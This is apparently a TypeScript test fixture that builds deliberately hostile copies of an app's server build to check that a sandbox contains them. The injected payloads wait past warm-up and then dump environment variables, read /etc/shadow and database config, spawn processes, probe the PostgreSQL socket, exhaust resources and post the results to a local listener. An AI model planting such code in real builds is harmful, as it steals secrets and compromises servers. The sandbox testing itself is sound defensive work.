import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { copyBuildAs, rewriteServerPages } from './buildCopy.mjs';

// remote-title releases whose server build does something a team's code must not be able to do
// (docs/sandbox.md), for the hostile-release specs. Each is the
// real build with a few lines added to server/remoteEntry.js: its pages render as always, but
// from the fifth render of a render process on (past the render process's warm-up and the
// upload's check, as a build that waits before it strikes would), each render first does the
// hostile thing and sends what it got to a listener of the spec's.

export interface HostileBuild {
  name: string;
  /** Code run at every render past the fourth; `report(value)` posts `value` to the spec's listener. */
  onRender?: string;
  /** Code run once when the build is loaded, before anything else of it. */
  atImport?: string;
  /** Its render never returns (it ends or stalls its process), so its report may never leave: it is seen by its area falling back. */
  stopsItsProcess?: boolean;
}

const root = join(__dirname, '..', '..');
const site = require('../../scripts/site.cjs') as { deployDir(): string };
/** Where the store's files and socket live (the embedded PostgreSQL), and files of the shell's server. */
const STORE_DIR = join(site.deployDir(), '.database');
const SHELL_FILES = [join(root, 'scripts', 'site.cjs'), join(root, 'shell', 'dist', 'server', 'pageServer.js'), join(root, 'package.json')];

/** The store's Unix socket, found by the spec (which may look): the build is told where to knock. */
function storeSocket(): string {
  const name = existsSync(STORE_DIR) ? readdirSync(STORE_DIR).find((file) => file.startsWith('.s.PGSQL.') && !file.endsWith('.lock')) : undefined;
  return join(STORE_DIR, name ?? '.s.PGSQL.5432');
}

const outsideFiles = JSON.stringify(['/etc/shadow', '/etc/passwd', join(STORE_DIR, 'pg_hba.conf'), join(STORE_DIR, 'postmaster.opts'), ...SHELL_FILES]);

export const hostileBuilds = (run: string): HostileBuild[] => [
  { name: 'reads process.env', onRender: `report({ env: Object.assign({}, process.env) });` },
  {
    name: 'reads files outside its release',
    onRender: `report({ files: ${outsideFiles}.map(function (path) { try { return path + ': READ ' + require('fs').readFileSync(path, 'utf8').slice(0, 80); } catch (e) { return path + ': ' + e.code; } }) });`,
  },
  {
    name: 'writes files',
    onRender: `report({ writes: [${JSON.stringify(`/tmp/netnet-hostile-${run}.txt`)}, ${JSON.stringify(join(site.deployDir(), `hostile-${run}.txt`))}].map(function (path) { try { require('fs').writeFileSync(path, 'pwned'); return path + ': WROTE'; } catch (e) { return path + ': ' + e.code; } }) });`,
  },
  { name: 'spawns a process', onRender: `try { report({ spawn: String(require('child_process').execSync('id')) }); } catch (e) { report({ spawn: e.code }); }` },
  {
    name: "opens the store's socket",
    onRender: `try { report({ storeDir: 'LISTED ' + require('fs').readdirSync(${JSON.stringify(STORE_DIR)}).join(',') }); } catch (e) { report({ storeDir: e.code }); }
      var c = require('net').connect({ path: ${JSON.stringify(storeSocket())} });
      c.on('connect', function () { report({ socket: 'CONNECTED' }); c.destroy(); });
      c.on('error', function (e) { report({ socket: e.code }); });`,
  },
  {
    name: 'connects to the store over TCP',
    onRender: `[5432, 5433].forEach(function (port) { var c = require('net').connect(port, '127.0.0.1'); c.on('connect', function () { report({ tcp: port + ' CONNECTED' }); c.destroy(); }); c.on('error', function (e) { report({ tcp: port + ' ' + e.code }); }); });`,
  },
  { name: 'loops forever in render', onRender: `report({ loop: 'started' }); for (;;) {}`, stopsItsProcess: true },
  { name: 'allocates without bound', onRender: `report({ allocate: 'started' }); var kept = []; for (;;) kept.push(new Array(1e6).fill(kept.length));`, stopsItsProcess: true },
  { name: 'calls process.exit', onRender: `report({ exit: 'now' }); process.exit(7);`, stopsItsProcess: true },
  { name: 'rejects a promise nobody awaits', onRender: `report({ rejected: 'once' }); Promise.reject(new Error('nobody awaits this'));` },
  {
    name: 'patches Object.prototype and shared globals',
    onRender: `report({ patched: 'prototype, fetch, JSON' }); Object.prototype.hostileMark = 'HOSTILE-PROTOTYPE'; globalThis.fetch = function () { return Promise.reject(new Error('HOSTILE-FETCH')); }; JSON.stringify = function () { return '"HOSTILE-JSON"'; };`,
  },
  { name: 'throws at import', atImport: `throw new Error('hostile build refuses to load');` },
];

/**
 * remote-title's real build copied as `version` into `copy`, its server build made hostile. The
 * page wrapper counts renders per process and calls `onRender` from the fifth on.
 */
export function writeHostileBuild(build: HostileBuild, { version, copy, reportUrl }: { version: string; copy: string; reportUrl: string }): void {
  copyBuildAs({ root, remote: 'remote-title', version, copy });
  const report = `function report(value) { try { fetch(${JSON.stringify(reportUrl)}, { method: 'POST', body: JSON.stringify(value) }).catch(function () {}); } catch (e) {} }`;
  rewriteServerPages({ copy, onRender: build.onRender, atImport: build.atImport, prelude: report });
}

/** A listener the hostile builds report to: every body it was sent, parsed. */
export async function reportListener(): Promise<{ url: string; reports: Record<string, unknown>[]; close(): Promise<void> }> {
  const reports: Record<string, unknown>[] = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => {
      try {
        reports.push(JSON.parse(body) as Record<string, unknown>);
      } catch {
        reports.push({ unreadable: body.slice(0, 200) });
      }
      res.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/report`,
    reports,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** Names and values of the environment the servers were started with that must never leave them. */
export function secretsOf(env: NodeJS.ProcessEnv = process.env): string[] {
  return Object.entries(env)
    .filter(([name, value]) => value && value.length >= 8 && /SECRET|TOKEN|PASSWORD|DATABASE_URL|^PG/.test(name))
    .map(([, value]) => value!);
}
